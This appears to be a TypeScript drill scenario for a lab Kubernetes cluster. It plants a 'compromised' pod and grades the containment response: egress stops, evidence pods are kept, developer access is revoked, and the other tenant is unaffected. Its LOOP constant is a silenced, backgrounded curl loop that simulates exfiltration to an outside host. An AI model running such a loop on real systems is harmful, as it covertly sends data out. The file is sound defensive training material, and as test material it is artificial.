import { setTimeout as sleep } from 'node:timers/promises';
import type { Plan } from './_plan';
import type { DrillWorld } from './_world';

const THEFT = '/stolen';

/** Sends something out, again and again, by all that a pod may use; and to another pod of its own namespace. */
const LOOP = `(while :; do curl -s -m 2 -o /dev/null http://ifconfig.me${THEFT}; sleep 0.2; done) >/dev/null 2>&1 &`;

let pods: readonly string[] = [];

/** A pod of the tenant sends data out without end. */
export const planCompromised: Plan = {
  fault: 'a pod sends data to an allowed host without end',
  plant: async (world) => {
    await world.lab.exec('client-a-demo', 'deploy/web', ['sh', '-c', LOOP]);
    await world.lab.waitFor('data leaves', async () => (await leaves(world, 500)) > 0);
    pods = await podsOf(world);
    return {};
  },
  solved: async (world) => {
    expect(await leaves(world, 4000)).toBe(0);
    // What was taken over is kept as it is.
    expect(await podsOf(world)).toEqual(pods);
    const person = world.lab.api.as({ name: 'ada', groups: ['client-a-developers'] });
    expect((await person.request('GET', '/api/v1/namespaces/client-a-demo/pods')).status).toBe(403);
    expect((await world.lab.exec('client-b-demo', 'deploy/web', ['true'])).code).toBe(0);
    expect(await world.seenAs('client-b')).toBe('203.0.113.12');
  },
  after: async (world) => {
    expect(await leaves(world, 2000)).toBe(0);
    expect(await world.seenAs('client-a')).toBe('203.0.113.10');
  },
};

/** Requests of the theft that reach the web within some milliseconds. */
async function leaves({ lab }: DrillWorld, time: number): Promise<number> {
  const count = () => lab.internet.requests().filter(({ path }) => path === THEFT).length;
  const before = count();
  await sleep(time);
  return count() - before;
}

async function podsOf({ lab }: DrillWorld): Promise<readonly string[]> {
  const all = await lab.api.list('/api/v1/namespaces/client-a-demo/pods');
  return all.map(({ metadata }) => metadata.uid as string).sort();
}
